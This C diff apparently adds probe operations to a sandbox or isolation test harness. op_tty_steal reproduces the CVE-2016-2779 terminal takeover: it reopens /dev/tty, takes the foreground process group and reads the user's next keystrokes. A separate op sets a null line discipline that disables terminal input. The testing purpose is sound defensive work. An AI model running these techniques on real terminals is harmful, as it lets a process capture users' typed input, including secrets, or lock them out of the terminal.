@@ -285,6 +285,93 @@ int op_tioclinux(char **a)
 	return raw_result(ioctl(0, TIOCLINUX, &subcode));
 }
 
+/* What one read of fd gets within seconds, printed escaped on one line
+ * ("stole: ..."); ETIMEDOUT when nothing came. */
+static int read_within(int fd, double seconds)
+{
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+	unsigned char buf[256];
+	int n = poll(&p, 1, (int)(seconds * 1000));
+
+	if (n < 0)
+		return errno;
+	if (n == 0)
+		return ETIMEDOUT;
+	ssize_t got = read(fd, buf, sizeof(buf));
+	if (got < 0)
+		return errno;
+	printf("stole: ");
+	for (ssize_t i = 0; i < got; i++)
+		printf(buf[i] >= 0x20 && buf[i] < 0x7f && buf[i] != '\\' ? "%c" : "\\x%02x", buf[i]);
+	printf("\n");
+	return 0;
+}
+
+/* CVE-2016-2779's way in: the controlling terminal opened anew, SIGTTOU
+ * and SIGTTIN ignored, this process's own group made the foreground, and
+ * what the user types next read. ok: it read something. */
+int op_tty_steal(char **a)
+{
+	double seconds = parse_seconds(a[0]);
+	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
+
+	if (fd < 0)
+		return errno;
+	signal(SIGTTOU, SIG_IGN);
+	signal(SIGTTIN, SIG_IGN);
+	(void)setpgid(0, 0);
+	if (tcsetpgrp(fd, getpgrp()) < 0)
+		printf("tcsetpgrp: %s\n", errno_name(errno));
+	else
+		printf("tcsetpgrp: ok\n");
+	fflush(stdout);
+	return read_within(fd, seconds);
+}
+
+/* The same through a descriptor the process holds (its stdout, say). */
+int op_read_fd(char **a)
+{
+	int fd = (int)parse_long(a[0], "fd");
+
+	signal(SIGTTIN, SIG_IGN);
+	printf("reading fd %d\n", fd);
+	fflush(stdout);
+	return read_within(fd, parse_seconds(a[1]));
+}
+
+/* TIOCSETD on fd: N_NULL (27) leaves a terminal that takes no input,
+ * and the line discipline outlives the process. */
+int op_tiocsetd(char **a)
+{
+	int ldisc = (int)parse_long(a[1], "ldisc");
+
+	return raw_result(ioctl((int)parse_long(a[0], "fd"), TIOCSETD, &ldisc));
+}
+
+/* The terminal's size now, and again after the first SIGWINCH or
+ * seconds. */
+static volatile sig_atomic_t winched;
+static void on_winch(int sig) { winched = 1; }
+
+int op_winsize(char **a)
+{
+	struct winsize ws;
+	double seconds = parse_seconds(a[0]);
+	struct sigaction sa = { .sa_handler = on_winch };
+
+	sigaction(SIGWINCH, &sa, NULL);
+	if (ioctl(1, TIOCGWINSZ, &ws) < 0)
+		return errno;
+	printf("size %dx%d\n", ws.ws_row, ws.ws_col);
+	fflush(stdout);
+	for (int i = 0; i < (int)(seconds * 100) && !winched; i++)
+		usleep(10000);
+	if (ioctl(1, TIOCGWINSZ, &ws) < 0)
+		return errno;
+	printf("%s %dx%d\n", winched ? "winch" : "no winch", ws.ws_row, ws.ws_col);
+	return 0;
+}
+
 /* --------------------------------------- calls that name another process */
 
 /* on-process CALL TARGET: one call that changes the process TARGET names
